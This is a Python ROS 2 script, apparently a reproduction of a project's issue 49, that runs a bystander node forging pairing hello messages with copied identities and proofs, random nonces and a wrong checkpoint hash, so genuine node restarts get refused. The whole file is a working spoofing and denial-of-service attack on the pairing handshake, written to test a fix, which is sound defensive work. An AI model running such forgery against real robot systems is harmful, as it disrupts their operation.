"""A bystander that poisons the start hellos: the attack of issue 49.

`python hello_poisoner.py SECONDS` starts a node named `poisoner` that publishes no action,
context or step at all. It listens on `zeus/pairing` and, every 50 ms, re-publishes the newest
hello of every node it has heard with the same node name, pid and GIDs, the same proof, a random
start nonce and a wrong checkpoint sha256 (`ffff...`). Before hellos were checked on receipt, a
node stored every hello by the GIDs it listed, last writer wins, so the pair's reference became
the poisoner's copy, and the genuine restart of the policy (or of the estimator) was refused
forever ("sha256 is not the pair's ffff..."). It prints `relaying NODE` for each node it first
poisons and `relayed N` at the end (SIGINT, SIGTERM or after SECONDS).
"""

from __future__ import annotations

import copy
import secrets
import signal
import sys
import time

import rclpy
from rclpy.executors import SingleThreadedExecutor
from zeus_msgs.msg import PairingHello

from zeus_ros.nodes.handshake import PAIRING_TOPIC, QOS

WRONG_SHA256 = 'f' * 64


def main(seconds: float) -> int:
    """Poison for `seconds` (or until signalled); return 0."""
    rclpy.init()
    node = rclpy.create_node('poisoner')
    heard: dict[str, PairingHello] = {}  # node name -> its newest genuine hello
    ours: set[str] = set()  # the nonces we made up: never relayed again

    def on_hello(msg: PairingHello) -> None:
        if msg.nonce in ours or not msg.node:
            return
        if msg.node not in heard:
            print(f'relaying {msg.node}', flush=True)
        heard[msg.node] = msg

    node.create_subscription(PairingHello, PAIRING_TOPIC, on_hello, QOS)
    publisher = node.create_publisher(PairingHello, PAIRING_TOPIC, QOS)
    executor = SingleThreadedExecutor()
    executor.add_node(node)
    stop = {'now': False}
    for sig in (signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, lambda *_: stop.__setitem__('now', True))
    relayed = 0
    end = time.monotonic() + seconds
    next_relay = 0.0
    while time.monotonic() < end and not stop['now']:
        executor.spin_once(timeout_sec=0.01)
        if time.monotonic() < next_relay:
            continue
        next_relay = time.monotonic() + 0.05
        for genuine in list(heard.values()):
            forged = copy.copy(genuine)  # same name, pid, GIDs and proof
            forged.nonce = secrets.token_hex(8)
            forged.checkpoint_sha256 = WRONG_SHA256
            ours.add(forged.nonce)
            publisher.publish(forged)
            relayed += 1
    print(f'relayed {relayed}', flush=True)
    node.destroy_node()
    rclpy.try_shutdown()
    return 0


if __name__ == '__main__':
    raise SystemExit(main(float(sys.argv[1])))
